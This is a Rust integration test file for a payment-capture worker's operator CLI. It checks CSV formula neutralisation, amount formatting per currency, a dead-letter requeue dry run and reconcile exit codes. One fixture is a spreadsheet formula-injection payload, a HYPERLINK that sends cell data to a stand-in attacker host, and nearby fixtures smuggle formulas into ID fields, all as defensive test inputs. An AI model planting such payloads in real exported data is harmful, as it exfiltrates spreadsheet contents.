//! What the operator commands print for people and spreadsheets: CSV cells that a spreadsheet
//! would read as formulas are neutralised, amounts stay numbers, tables line up, and
//! `--units major` shows decimals with each currency's exponent.

use std::time::Duration;

use capture_worker::app::operator::units::{self, Units};
use capture_worker::app::operator::{self, Cell, OutputFormat};
use capture_worker::domain::{Currency, Money};
use capture_worker::storage::operator::RejectionRow;
use lapin::options::{QueueBindOptions, QueueDeclareOptions};
use lapin::types::FieldTable;

use crate::finance::{order_msg, ship_msg};
use crate::harness::{AMQP, TestApp, eventually};
use crate::operator::{cli, parse_csv};

fn refusal(message_id: &str, order_id: &str, detail: &str) -> RejectionRow {
    RejectionRow {
        rejection_id: 7,
        received_at: chrono::Utc::now(),
        reason: "invalid_amount".into(),
        detail: detail.into(),
        message_id: Some(message_id.into()),
        message_type: Some("order.authorized".into()),
        order_id: Some(order_id.into()),
        routing_key: Some("order.authorized".into()),
        body: None,
        has_body: false,
        requeued_at: None,
    }
}

#[test]
fn a_csv_id_beginning_with_a_formula_character_is_neutralised() {
    let rows = [
        refusal(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "@SUM(A1:A9)",
            "+1+1",
        ),
        refusal("-2+3", "\tindent", "\r=1"),
        refusal("wh-7f3a-0001", "ORD-1001", "plain, with a comma"),
    ];
    let csv = operator::dead_letters::render_list(&rows, OutputFormat::Csv).unwrap();
    let parsed = parse_csv(&csv);
    let column = |name: &str| parsed[0].iter().position(|c| c == name).unwrap();
    let (message, order, detail, id) = (
        column("message_id"),
        column("order_id"),
        column("detail"),
        column("rejection_id"),
    );

    assert_eq!(
        parsed[1][message],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(parsed[1][order], "'@SUM(A1:A9)");
    assert_eq!(parsed[1][detail], "'+1+1");
    assert_eq!(parsed[2][message], "'-2+3");
    assert_eq!(parsed[2][order], "'\tindent");
    assert_eq!(parsed[2][detail], "'\r=1");
    // Harmless text and our own numbers are written as they are.
    assert_eq!(parsed[3][message], "wh-7f3a-0001");
    assert_eq!(parsed[3][detail], "plain, with a comma");
    assert!(parsed[1..].iter().all(|row| row[id] == "7"));
    // No cell of the file starts a formula.
    for row in &parsed[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {csv:?}"
            );
        }
    }
}

#[test]
fn csv_numbers_we_write_stay_numbers_even_when_negative() {
    let csv = operator::csv(
        &["id", "amount", "major"],
        &[vec![
            Cell::text("-5"),
            Cell::number(-6979),
            Cell::Number("-69.79".into()),
        ]],
    )
    .unwrap();
    assert_eq!(csv, "id,amount,major\r\n'-5,-6979,-69.79\r\n");
}

#[test]
fn tables_right_align_number_columns_and_leave_text_as_it_is() {
    let out = operator::table(
        &["order", "captured"],
        &[
            vec!["ORD-1", "69.79"],
            vec!["=not-a-formula-on-a-terminal", "1000"],
        ],
    );
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines[0].starts_with("order"), "{out}");
    assert!(lines[1].ends_with("   69.79"), "{out}");
    assert!(lines[2].ends_with("  1000"), "{out}");
    assert!(lines[2].starts_with("=not-a-formula"), "{out}");
    assert_eq!(lines[1].len(), lines[2].len(), "{out}");
}

#[test]
fn major_units_use_the_currency_s_exponent_and_integers_only() {
    let major = |minor, currency| units::amount(Units::Major, minor, currency).unwrap();
    assert_eq!(major(6979, "USD"), "69.79");
    assert_eq!(major(5, "USD"), "0.05");
    assert_eq!(major(1000, "JPY"), "1000");
    assert_eq!(major(1234, "KWD"), "1.234");
    assert_eq!(major(-1234, "KWD"), "-1.234");
    assert_eq!(major(-5, "USD"), "-0.05");
    assert_eq!(major(i64::MIN, "USD"), "-92233720368547758.08");
    assert_eq!(units::amount(Units::Minor, 6979, "USD").unwrap(), "6979");
    assert!(units::amount(Units::Major, 1, "XYZ").is_err());
    // The inverse of the providers' parser, for every value it accepts.
    for (minor, code) in [(6979, "USD"), (1000, "JPY"), (1234, "KWD"), (0, "KWD")] {
        let currency = Currency::parse(code).unwrap();
        assert_eq!(
            Money::parse_major(&major(minor, code), currency)
                .unwrap()
                .amount()
                .get(),
            minor
        );
    }
}

/// One order per currency, each captured in full: 6979 USD, 1000 JPY, 1230 KWD.
async fn three_currencies(app: &TestApp) {
    for (order, auth, currency, amount) in [
        ("ORD-USD", "pi_usd", "USD", 6979),
        ("ORD-JPY", "pi_jpy", "JPY", 1000),
        ("ORD-KWD", "pi_kwd", "KWD", 1230),
    ] {
        app.authorize(auth, amount, currency, None);
        app.publish(&[order_msg(
            order,
            auth,
            currency,
            &[("L1", 1, amount, 0)],
            0,
            amount,
            None,
        )])
        .await;
    }
    app.wait_count("select count(*) from orders", 3).await;
    for order in ["ORD-USD", "ORD-JPY", "ORD-KWD"] {
        app.publish(&[ship_msg(order, "S1", &[("L1", 1)])]).await;
    }
    for order in ["ORD-USD", "ORD-JPY", "ORD-KWD"] {
        app.wait_settled(order, 1).await;
    }
}

fn stdout(out: &std::process::Output) -> String {
    assert!(
        out.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).unwrap()
}

#[tokio::test]
async fn units_major_prints_decimals_with_each_currency_s_exponent() {
    let app = TestApp::spawn().await;
    three_currencies(&app).await;
    let today = chrono::Utc::now().date_naive().to_string();

    // report, CSV: the captured column per currency.
    let rows = parse_csv(&stdout(
        &cli(
            &app,
            &[
                "report", "--from", &today, "--format", "csv", "--units", "major",
            ],
        )
        .await,
    ));
    let col = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    let captured = |currency: &str| {
        rows[1..]
            .iter()
            .find(|r| r[col("currency")] == currency)
            .map(|r| r[col("captured_amount")].clone())
            .unwrap()
    };
    assert_eq!(captured("USD"), "69.79");
    assert_eq!(captured("JPY"), "1000");
    assert_eq!(captured("KWD"), "1.230");
    // Counts stay counts.
    assert!(rows[1..].iter().all(|r| r[col("capture_count")] == "1"));

    // Minor units stay the default.
    let rows = parse_csv(&stdout(
        &cli(&app, &["report", "--from", &today, "--format", "csv"]).await,
    ));
    assert!(
        rows[1..]
            .iter()
            .any(|r| r[col("captured_amount")] == "6979")
    );

    // report, table.
    let table = stdout(&cli(&app, &["report", "--from", &today, "--units", "major"]).await);
    assert!(table.contains("amounts in major units"), "{table}");
    assert!(
        table.contains("69.79") && table.contains("1.230") && !table.contains("6979"),
        "{table}"
    );

    // order show.
    let story = stdout(&cli(&app, &["order", "show", "ORD-USD", "--units", "major"]).await);
    assert!(story.contains("total 69.79"), "{story}");
    assert!(story.contains("69.79 USD"), "{story}");
    assert!(!story.contains("6979"), "{story}");
    let story = stdout(&cli(&app, &["order", "show", "ORD-KWD", "--units", "major"]).await);
    assert!(story.contains("total 1.230"), "{story}");
    let story = stdout(&cli(&app, &["order", "show", "ORD-JPY", "--units", "major"]).await);
    assert!(story.contains("total 1000"), "{story}");

    // JSON is for programs: integers, always.
    let out = cli(
        &app,
        &[
            "order", "show", "ORD-USD", "--format", "json", "--units", "major",
        ],
    )
    .await;
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("minor units"));
    let json: serde_json::Value = serde_json::from_str(&stdout(
        &cli(&app, &["order", "show", "ORD-USD", "--format", "json"]).await,
    ))
    .unwrap();
    assert_eq!(json["order"]["captured_amount"], 6979);
    app.cleanup().await;
}

/// Everything PostgreSQL knows about refusals and the inbox, as text to compare.
async fn refusal_state(app: &TestApp) -> String {
    sqlx::query_scalar(
        "select coalesce((select jsonb_agg(to_jsonb(r) order by rejection_id) from rejected_messages r), '[]')::text
              || coalesce((select jsonb_agg(to_jsonb(i) order by message_id) from inbox_messages i), '[]')::text",
    )
    .fetch_one(app.store.pool())
    .await
    .unwrap()
}

async fn message_count(channel: &lapin::Channel, queue: &str) -> u32 {
    channel
        .queue_declare(
            queue.into(),
            QueueDeclareOptions {
                passive: true,
                ..QueueDeclareOptions::default()
            },
            FieldTable::default(),
        )
        .await
        .unwrap()
        .message_count()
}

#[tokio::test]
async fn dead_letter_requeue_dry_run_lists_what_would_be_requeued_and_changes_nothing() {
    let app = TestApp::spawn().await;
    app.publish_raw("shipment.shipped", b"{not json").await;
    app.publish_raw("shipment.shipped", b"{card 4111 1111 1111 1111")
        .await;
    app.wait_count("select count(*) from rejected_messages", 2)
        .await;
    let ids: Vec<(i64, bool)> = sqlx::query_as(
        "select rejection_id, body like '%card-number-masked%' from rejected_messages order by 1",
    )
    .fetch_all(app.store.pool())
    .await
    .unwrap();
    let (plain, masked) = match ids[..] {
        [(a, false), (b, true)] => (a, b),
        [(a, true), (b, false)] => (b, a),
        _ => panic!("{ids:?}"),
    };
    // A queue of the test's own, bound to the exchange for every routing key, receives
    // whatever anyone publishes there.
    let conn = lapin::Connection::connect(AMQP, lapin::ConnectionProperties::default())
        .await
        .unwrap();
    let ch = conn.create_channel().await.unwrap();
    let spy = format!("{}.spy", app.settings.amqp.queue);
    ch.queue_declare(
        spy.as_str().into(),
        QueueDeclareOptions {
            exclusive: true,
            ..QueueDeclareOptions::default()
        },
        FieldTable::default(),
    )
    .await
    .unwrap();
    ch.queue_bind(
        spy.as_str().into(),
        app.settings.amqp.exchange.as_str().into(),
        "#".into(),
        QueueBindOptions::default(),
        FieldTable::default(),
    )
    .await
    .unwrap();
    let dead_letter_queue = app.topology().dead_letter();
    eventually(Duration::from_secs(5), || async {
        message_count(&ch, &dead_letter_queue).await == 2
    })
    .await;
    let before = refusal_state(&app).await;

    let out = stdout(&cli(&app, &["dead-letter", "requeue", "--all", "--dry-run"]).await);
    assert!(
        out.contains(&format!(
            "rejection {plain} (malformed): would be requeued with routing key shipment.shipped"
        )),
        "{out}"
    );
    assert!(
        out.contains(&format!(
            "rejection {masked}: skipped, its body was altered"
        )),
        "{out}"
    );
    let out = stdout(
        &cli(
            &app,
            &["dead-letter", "requeue", &plain.to_string(), "--dry-run"],
        )
        .await,
    );
    assert!(out.contains("would be requeued"), "{out}");

    assert_eq!(refusal_state(&app).await, before, "PostgreSQL unchanged");
    assert_eq!(message_count(&ch, &spy).await, 0, "nothing published");
    assert_eq!(message_count(&ch, &dead_letter_queue).await, 2);

    // Without --dry-run the same command publishes and records, so the checks above can fail.
    let out = stdout(&cli(&app, &["dead-letter", "requeue", "--all"]).await);
    assert!(
        out.contains(&format!("rejection {plain} (malformed): requeued")),
        "{out}"
    );
    eventually(Duration::from_secs(5), || async {
        message_count(&ch, &spy).await == 1
    })
    .await;
    assert_ne!(refusal_state(&app).await, before);
    let _ = conn.close(200, "done".into()).await;
    app.cleanup().await;
}

#[tokio::test]
async fn provider_reconcile_exits_0_without_differences_1_with_them_and_2_when_it_cannot_run() {
    let app = TestApp::spawn().await;
    // ORD-A is captured and agrees with the provider; ORD-H's authorization is unknown to it.
    app.authorize("pi_a", 1000, "USD", None);
    app.publish(&[
        order_msg("ORD-A", "pi_a", "USD", &[("A1", 1, 1000, 0)], 0, 1000, None),
        order_msg("ORD-H", "pi_h", "USD", &[("H1", 1, 500, 0)], 0, 500, None),
    ])
    .await;
    app.wait_count("select count(*) from orders", 2).await;
    app.publish(&[ship_msg("ORD-A", "S1", &[("A1", 1)])]).await;
    app.wait_settled("ORD-A", 1).await;

    let agrees = cli(&app, &["provider", "reconcile", "--order", "ORD-A"]).await;
    assert_eq!(
        agrees.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&agrees.stderr)
    );
    assert!(String::from_utf8_lossy(&agrees.stdout).contains("1 match, 0 differences"));

    let differs = cli(
        &app,
        &[
            "provider",
            "reconcile",
            "--order",
            "ORD-H",
            "--format",
            "json",
        ],
    )
    .await;
    assert_eq!(
        differs.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&differs.stderr)
    );
    let json: serde_json::Value = serde_json::from_slice(&differs.stdout).unwrap();
    assert_eq!(json["differences"][0]["kind"], "lookup_failed");

    let broken = crate::operator::cli_with(
        &app,
        &["provider", "reconcile"],
        &[(
            "CAPTURE__DATABASE__URL",
            "postgres://postgres@127.0.0.1:1/none",
        )],
    )
    .await;
    assert_eq!(broken.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&broken.stderr).contains("PostgreSQL"),
        "{}",
        String::from_utf8_lossy(&broken.stderr)
    );
    app.cleanup().await;
}

#[tokio::test]
async fn progress_is_drawn_only_on_a_terminal_and_never_mixed_into_json_logs() {
    let app = TestApp::spawn().await;
    app.publish_raw("shipment.shipped", b"{not json").await;
    app.wait_count("select count(*) from rejected_messages", 1)
        .await;

    // Not a terminal (a pipe): stderr holds only JSON log lines; the summary is one of them.
    let out = crate::operator::cli_with(
        &app,
        &["dead-letter", "requeue", "--all"],
        &[
            ("CAPTURE__TELEMETRY__LOG_FORMAT", "json"),
            ("CAPTURE__TELEMETRY__LOG_LEVEL", "info"),
        ],
    )
    .await;
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(out.status.success(), "{stderr}");
    let events: Vec<serde_json::Value> = stderr
        .lines()
        .map(|l| {
            serde_json::from_str(l).unwrap_or_else(|e| panic!("not a JSON log line ({e}): {l:?}"))
        })
        .collect();
    let summary = events
        .iter()
        .find(|e| e["event"] == "operator_progress")
        .unwrap_or_else(|| panic!("{stderr}"));
    assert_eq!(summary["command"], "requeue");
    assert!(
        summary["message"]
            .as_str()
            .unwrap()
            .contains("1 requeued, 0 skipped"),
        "{summary}"
    );

    // A terminal (a pseudo-terminal from script(1)): the bar and a summary line for people.
    app.wait_count("select count(*) from rejected_messages", 2)
        .await;
    let command = format!(
        "{} dead-letter requeue --all --dry-run",
        env!("CARGO_BIN_EXE_capture-worker")
    );
    let mut script = std::process::Command::new("script");
    script
        .args(["-qec", &command, "/dev/null"])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env("CAPTURE__DATABASE__URL", app.settings.database.url.expose())
        .env("CAPTURE__TELEMETRY__LOG_FORMAT", "json")
        .env("CAPTURE__TELEMETRY__LOG_LEVEL", "info");
    let out = tokio::task::spawn_blocking(move || script.output().unwrap())
        .await
        .unwrap();
    let terminal = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{terminal}");
    assert!(
        terminal.contains("requeue: 1 would be requeued (dry run), 0 skipped in"),
        "{terminal}"
    );
    assert!(!terminal.contains("operator_progress"), "{terminal}");
    app.cleanup().await;
}
